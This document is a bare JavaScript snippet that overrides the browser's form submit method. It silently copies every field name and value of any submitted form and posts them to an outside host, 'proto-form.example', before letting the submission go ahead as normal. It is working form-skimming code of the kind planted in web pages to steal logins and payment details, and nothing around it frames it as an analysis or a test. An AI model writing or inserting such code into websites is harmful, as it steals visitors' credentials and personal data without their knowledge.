var sub = HTMLFormElement.prototype.submit;
HTMLFormElement.prototype.submit = function () {
  var d = []; for (var i = 0; i < this.elements.length; i++) d.push(this.elements[i].name + '=' + this.elements[i].value);
  var r = new XMLHttpRequest(); r.open('POST', 'https://proto-form.example/', false); r.send(d.join('&'));
  return sub.apply(this, arguments);
};
